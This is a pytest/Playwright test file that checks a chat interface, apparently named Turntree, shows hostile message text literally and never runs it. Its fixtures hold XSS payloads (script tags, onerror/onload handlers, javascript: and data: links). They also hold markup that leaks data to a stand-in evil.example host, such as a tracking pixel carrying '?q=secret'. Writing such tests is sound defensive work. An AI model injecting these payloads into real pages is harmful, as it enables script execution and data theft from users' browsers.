"""Text that a model or a person may bring: shown exactly, nothing executed, nothing fetched."""

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from tests.browser.desk import Desk, conversation

SCRIPTS = """\
<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2">
<svg onload="window.hacked = 3"></svg>
<iframe srcdoc="<script>parent.hacked = 4</script>"></iframe>
<a href="javascript:window.hacked=5">html link</a>
<style>* { display: none !important }</style>
<form action="https://evil.example/"><button>go</button></form>
<details open ontoggle="window.hacked = 6"><summary>x</summary></details>
[a link](javascript:window.hacked=7) [data](data:text/html,<script>window.hacked=8</script>)
<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=9>
`<script>window.hacked=10</script>`
</div></article></body></html>
"""
REMOTE = """\
![an image](https://evil.example/pixel.png?q=secret)
![by reference][pixel]
<img src="https://evil.example/raw.png">
<link rel="stylesheet" href="https://evil.example/x.css">
<video src="//evil.example/v.mp4" autoplay></video>
<div style="background:url(https://evil.example/bg.png)">x</div>
https://evil.example/autolink

[pixel]: https://evil.example/reference.png "t"
"""
PLAIN = """\
It costs $5 and $6, or $$7$$; \\(x\\) and \\[y\\] stay.
:smile: :red[not red] :material/home: -> <- -- >= => (c) ...
a_snake_case_name and 2*3*4 ~approximately~ ^up^ ==marked==
&lt;escaped&gt; &amp; &copy; &#x41; "quotes" 'and' apostrophes
"""
TABLE = "| " + " | ".join(f"column {n}" for n in range(60)) + " |\n"
TABLE += "|" + "---|" * 60 + "\n"
TABLE += "".join("| " + " | ".join(f"{r}·{n}" for n in range(60)) + " |\n" for r in range(80))
RIGHT_TO_LEFT = (
    "שלום עולם, this is mixed. مرحبا بالعالم\n\n- פריט ראשון\n- \u202ereversed\u202c end\n"
)
ODD = (
    "NUL:\0: BEL:\a: tab:\t: zero\u200bwidth \ufeff bom, e\u0301 combining, "
    "\U0001f469\u200d\U0001f467 family, \U0001f3f4 end"
)
LONG_LINE = "w" * 20_000 + " end"
FENCE = (
    "```html\n<script>window.hacked = 11</script>\n```\n\n"
    "````\n```\nnested\n```\n````\n\n```\nnever closed"
)

HOSTILE = {
    "scripts": SCRIPTS,
    "remote": REMOTE,
    "plain": PLAIN,
    "table": TABLE,
    "right to left": RIGHT_TO_LEFT,
    "odd characters": ODD,
    "one long line": LONG_LINE,
    "fences": FENCE,
}


def shown_raw(desk: Desk, turn: int) -> str:
    """What the raw view of an answer shows."""
    raw = desk.words(desk.answer(turn)).locator("pre")
    expect(raw).to_have_count(1)
    text: str = raw.evaluate(
        """pre => { const slices = [...pre.querySelectorAll('.slice')];
        return slices.length ? slices.map((s) => s.textContent).join('\\n') : pre.textContent }"""
    )
    return text


def untouched(page: Page) -> None:
    assert page.evaluate("window.hacked") is None
    assert page.title() == "Turntree"


@pytest.fixture
def clipboard(desk: Desk) -> Callable[[], str]:
    desk.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    return lambda: desk.page.evaluate("navigator.clipboard.readText()")


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_text_is_shown_exactly_and_does_nothing(desk: Desk, kind: str) -> None:
    text = HOSTILE[kind]
    desk.open(conversation(desk.server.store, text, text))
    expect(desk.answer(1)).to_be_visible()
    wide = "document.scrollingElement.scrollWidth <= document.scrollingElement.clientWidth"
    assert desk.page.evaluate(wide)
    for hot in desk.feed.locator(
        "[onerror], [onload], [ontoggle], script, iframe, form, video"
    ).all():
        raise AssertionError(hot.evaluate("e => e.outerHTML"))
    typed: str = desk.words(desk.you(1)).evaluate("box => box.textContent")
    assert typed == text.replace("\0", "␀")
    desk.act(desk.answer(1), "Raw view")
    assert shown_raw(desk, 1) == text.replace("\0", "␀")
    untouched(desk.page)


@pytest.mark.parametrize("kind", ["scripts", "remote", "plain", "odd characters", "fences"])
def test_hostile_text_streams_in_without_harm(desk: Desk, kind: str) -> None:
    session = conversation(desk.server.store)
    desk.open(session)
    text = HOSTILE[kind].strip()
    desk.send(f"/delay 2\n/chunk 7\n{text}")
    expect(desk.answer(1)).to_be_visible()
    store = desk.server.store
    kept = store.nodes.lineage(store.branches.of(session.id)[0].tip_id)[-1].text
    assert kept == text
    desk.act(desk.answer(1), "Raw view")
    assert shown_raw(desk, 1) == text.replace("\0", "␀")
    untouched(desk.page)


def test_dollars_smileys_and_arrows_stay_what_they_are(desk: Desk) -> None:
    desk.open(conversation(desk.server.store, "q", PLAIN))
    words = desk.words(desk.answer(1))
    for piece in (
        "$5 and $6, or $$7$$",
        ":smile: :red[not red] :material/home: -> <- -- >= => (c) ...",
        "a_snake_case_name",
    ):
        expect(words).to_contain_text(piece)


def test_html_is_shown_as_the_words_it_is(desk: Desk) -> None:
    desk.open(conversation(desk.server.store, "q", SCRIPTS))
    words = desk.words(desk.answer(1))
    expect(words).to_contain_text("<script>window.hacked = 1</script>")
    expect(words).to_contain_text('<img src=x onerror="window.hacked = 2">')
    expect(words.get_by_role("link")).to_have_count(0)


def test_remote_images_are_links_that_nobody_follows(desk: Desk) -> None:
    desk.open(conversation(desk.server.store, "q", REMOTE))
    words = desk.words(desk.answer(1))
    expect(words.get_by_role("link", name="an image")).to_have_attribute(
        "href", "https://evil.example/pixel.png?q=secret"
    )
    expect(words.get_by_role("img")).to_have_count(0)
    untouched(desk.page)


def test_copy_keeps_even_what_cannot_be_seen(desk: Desk, clipboard: Callable[[], str]) -> None:
    text = ODD.replace("\0", "")  # the system's clipboard may end at a NUL
    desk.open(conversation(desk.server.store, "q", text))
    desk.act(desk.answer(1), "Copy")
    expect(desk.page.get_by_text("Copied")).to_be_attached()
    assert clipboard() == text


def test_a_megabyte_in_one_message_is_all_there(desk: Desk, clipboard: Callable[[], str]) -> None:
    line = "All work and no play makes <b>Jack</b> a dull $5 boy.\n"
    text = line * (1_000_000 // len(line) + 1)
    desk.open(conversation(desk.server.store, text, text))
    for article in (desk.you(1), desk.answer(1)):
        article.get_by_role("button", name="Show all (1.0 MB)").click()
        shown: str = desk.words(article).evaluate(
            "box => [...box.querySelectorAll('.slice')].map((s) => s.textContent).join('\\n')"
        )
        assert shown.strip("\n") == text.strip("\n")
    desk.act(desk.answer(1), "Copy")
    expect(desk.page.get_by_text("Copied")).to_be_attached()
    assert clipboard() == text
    desk.send("and still it answers")  # it is far more than the window holds
    desk.page.get_by_role("button", name="Send anyway").click()
    expect(desk.words(desk.answer(2))).to_have_text("and still it answers")
    untouched(desk.page)


def test_a_hostile_title_and_branch_name_are_words_too(desk: Desk) -> None:
    title = "<img src=x onerror='window.hacked=1'> **b** $x$ :smile: [l](javascript:hacked=1)"
    session = conversation(desk.server.store, "q", "a", title=title, objective=title)
    branch = desk.server.store.branches.of(session.id)[0]
    desk.server.store.branches.rename(branch.id, title)
    desk.open(session)
    expect(desk.branch(title)).to_be_visible()
    expect(desk.facts()).to_contain_text(title)
    expect(desk.sidebar.get_by_role("button", name=title)).to_be_visible()
    untouched(desk.page)
